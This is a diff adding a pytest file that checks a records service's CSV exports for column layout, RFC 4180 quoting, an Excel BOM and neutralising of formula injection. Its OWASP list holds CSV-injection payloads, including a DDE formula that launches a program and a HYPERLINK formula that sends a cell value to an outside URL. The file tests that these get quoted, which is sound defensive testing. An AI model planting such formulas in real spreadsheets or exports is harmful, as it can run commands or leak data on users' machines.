@@ -1,0 +1,107 @@
+"""CSV exports: fixed columns, RFC 4180, UTF-8 (BOM for Excel), and no cell runs as a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import given
+from hypothesis import strategies as st
+
+from generator.cli import main
+from generator.records.csv import COLUMNS, FORMULA_STARTS, neutralise, write_rows
+from tests.conftest import copy_project
+from tests.records_kit import Service, acknowledgement, get, post, project_at, violation_report
+
+OWASP = [
+    '=1+2";=1+2',
+    '=HYPERLINK("http://x?"&A1,"y")',
+    "@SUM(1)",
+    "-2+3",
+    "+1",
+    "\t=1+2",
+    "\r=1+2",
+    "\n=1+2",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def test_each_owasp_vector_is_prefixed_with_a_quote():
+    for vector in OWASP:
+        assert neutralise(vector) == "'" + vector
+    assert neutralise("Ann O'Neil") == "Ann O'Neil"
+    assert neutralise("") == ""
+
+
+@given(st.lists(st.text(max_size=20), min_size=1, max_size=6))
+def test_no_cell_of_any_row_starts_like_a_formula_and_rows_round_trip(values):
+    columns = tuple(f"c{i}" for i in range(len(values)))
+    text = "".join(write_rows(columns, [values]))
+    header, row = list(csv.reader(io.StringIO(text, newline="")))
+    assert header == list(columns)
+    assert [cell.removeprefix("'") if cell[:2].startswith("'") and cell[1:2] in FORMULA_STARTS else cell
+            for cell in row] == values
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+
+
+def test_rows_end_with_crlf_and_excel_gets_a_bom():
+    text = "".join(write_rows(("a", "b"), [["x,y", 'say "hi"\nbye']], excel=True))
+    assert text.startswith("\ufeffa,b\r\n")
+    assert text.endswith('"x,y","say ""hi""\nbye"\r\n')
+
+
+@pytest.fixture(scope="module")
+def exported(built_site: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
+    """Records with the OWASP vectors in names and form answers, sent to the real service."""
+    base = tmp_path_factory.mktemp("csv")
+    root = copy_project(base / "project")
+    project = project_at(root)
+    service = Service(root, built_site, base / "records.sqlite").start()
+    try:
+        for i, vector in enumerate(OWASP):
+            person = {"employee_id": f"X{i}", "name": vector, "department": vector, "role": "employee",
+                      "email": None}
+            record = acknowledgement(project, employee_id=f"X{i}", name=vector, signature=vector)
+            record["person"] = person
+            assert post(f"{service.url}/api/records", record)[0] == 201
+            form = violation_report(project, employee_id=f"X{i}", name=vector, description=vector)
+            form["person"] = person
+            assert post(f"{service.url}/api/records", form)[0] == 201
+        texts = {kind: get(f"{service.url}/api/export/{kind}.csv", service.auth())[2] for kind in COLUMNS}
+        texts["excel"] = get(f"{service.url}/api/export/forms.csv?excel=1", service.auth())[2]
+        runner = CliRunner()
+        result = runner.invoke(main, ["records", "export", "--kind", "forms", "--project", str(root),
+                                      "--db", str(base / "records.sqlite"), "--excel"])
+        assert result.exit_code == 0, result.output
+        texts["cli"] = result.stdout_bytes.decode("utf-8")
+        return texts
+    finally:
+        service.stop()
+
+
+def test_exports_have_the_documented_columns(exported):
+    for kind, columns in COLUMNS.items():
+        assert exported[kind].split("\r\n", 1)[0] == ",".join(columns)
+
+
+def test_owasp_vectors_in_names_and_form_answers_come_out_neutralised(exported):
+    for kind in ("acknowledgements", "forms"):
+        rows = list(csv.DictReader(io.StringIO(exported[kind], newline="")))
+        assert rows
+        for row in rows:
+            assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)], row
+        names = {row["name"] for row in rows}
+        assert names == {"'" + vector.strip() for vector in OWASP}  # names are trimmed, then guarded
+    answers = {row["answer"] for row in csv.DictReader(io.StringIO(exported["forms"], newline=""))
+               if row["field_id"] == "description"}
+    assert answers == {"'" + vector for vector in OWASP}
+
+
+def test_the_cli_and_the_service_export_the_same_bytes(exported):
+    assert exported["excel"].startswith("\ufeffrecord_id,")
+    assert exported["cli"] == exported["excel"]
+    assert "\r\n" in exported["cli"] and "\n" not in exported["cli"].replace("\r\n", "").replace(
+        '\n=1+2', "")
